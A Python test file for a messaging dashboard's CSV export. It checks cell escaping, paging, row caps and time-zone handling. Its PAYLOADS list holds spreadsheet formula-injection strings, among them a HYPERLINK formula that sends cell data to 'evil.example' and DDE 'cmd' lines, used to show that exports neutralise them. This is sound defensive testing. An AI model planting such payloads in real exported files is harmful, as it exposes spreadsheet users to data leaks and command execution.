"""CSV export: every matching message, page by page, with formula-looking cells neutralised for spreadsheets."""

from __future__ import annotations

import csv
import io

from fleet_dashboard.accounts.permissions import SYSTEM
from fleet_dashboard.core import csvcells
from fleet_dashboard.messaging import export, messages, templates

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cells_that_a_spreadsheet_would_run_are_neutralised(db, make_org):
    org = make_org()
    templates.create(session=db, org_id=org.id, name="raw", message_template="{{note}}", actor=SYSTEM)
    for payload in PAYLOADS:
        # Through a template variable, as an API caller would supply it.
        messages.create_message(session=db, org_id=org.id, recipient="+201001234567", template_name="raw",
                                 variables={"note": payload}, actor=SYSTEM)
    failed, _ = messages.create_message(session=db, org_id=org.id, recipient="+201001234568", text="plain",
                                         actor=SYSTEM)
    failed.error = "=2+5"
    db.add(failed)
    db.commit()

    data, rows = export.messages_csv(session=db, org_id=org.id, actor=SYSTEM)
    parsed = _parse(data)
    assert rows == len(parsed) == len(PAYLOADS) + 1
    bodies = {row["message_body"] for row in parsed}
    for payload in PAYLOADS:
        assert "'" + payload in bodies, payload
    for row in parsed:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == row["recipient_phone"], (name, cell)
    assert {row["error"] for row in parsed} == {"", "'=2+5"}
    # A phone number is a plain number, not a formula: kept as the user typed it.
    assert {row["recipient_phone"] for row in parsed} == {"+201001234567", "+201001234568"}
    # Times in the organisation's zone (the default, Africa/Cairo, here), the offset written out.
    assert parsed[0]["created_at"][-6:] in ("+02:00", "+03:00") and parsed[0]["timezone"] == "Africa/Cairo"


def test_export_pages_through_filters_and_stops_at_the_cap(db, make_org):
    org, other = make_org(), make_org("Other")
    for i in range(7):
        messages.create_message(session=db, org_id=org.id, recipient="+201001234567", text=f"m{i}", actor=SYSTEM)
    messages.create_message(session=db, org_id=other.id, recipient="+201001234567", text="not ours", actor=SYSTEM)
    db.commit()
    chunks = list(export.MessagesCsv(session=db, org_id=org.id, actor=SYSTEM, page_rows=3))
    assert len(chunks) == 1 + 3, "a header, then one chunk per page"
    assert {r["message_body"] for r in _parse("".join(chunks))} == {f"m{i}" for i in range(7)}

    capped = export.MessagesCsv(session=db, org_id=org.id, actor=SYSTEM, max_rows=5, page_rows=3)
    assert len(_parse("".join(capped))) == capped.rows == 5
    data, rows = export.messages_csv(session=db, org_id=org.id, actor=SYSTEM, filters={"search": "m6"})
    assert rows == 1 and _parse(data)[0]["message_body"] == "m6"


def test_safe_cell_values():
    assert csvcells.safe_cell(None) == ""
    assert csvcells.safe_cell("-12.5") == "-12.5"
    assert csvcells.safe_cell("+201001234567") == "+201001234567"
    assert csvcells.safe_cell("+20 100 123") == "'+20 100 123"
    assert csvcells.safe_cell("مرحبا =1+1") == "مرحبا =1+1"


def test_export_times_are_in_the_organisations_zone(db, make_org):
    from datetime import UTC, datetime

    from fleet_dashboard.accounts import lifecycle
    from fleet_dashboard.accounts.permissions import platform
    from fleet_dashboard.messaging.models import WhatsAppMessage

    org = make_org()
    lifecycle.set_timezone(session=db, actor=platform("test"), org_id=org.id, timezone="Asia/Riyadh")
    db.add(WhatsAppMessage(org_id=org.id, recipient_phone="+966501234567", message_body="hi", status="sent",
                           created_at=datetime(2025, 1, 5, 6, 0, 7, tzinfo=UTC),
                           sent_at=datetime(2025, 1, 5, 6, 1, tzinfo=UTC)))
    db.commit()
    row = _parse(export.messages_csv(session=db, org_id=org.id, actor=SYSTEM)[0])[0]
    assert (row["created_at"], row["sent_at"], row["read_at"], row["timezone"]) == \
        ("2025-01-05T09:00:07+03:00", "2025-01-05T09:01:00+03:00", "", "Asia/Riyadh")
    # A caller may still ask for UTC (or any zone) explicitly.
    utc_row = _parse(export.messages_csv(session=db, org_id=org.id, actor=SYSTEM, zone="UTC")[0])[0]
    assert utc_row["created_at"] == "2025-01-05T06:00:07+00:00" and utc_row["timezone"] == "UTC"
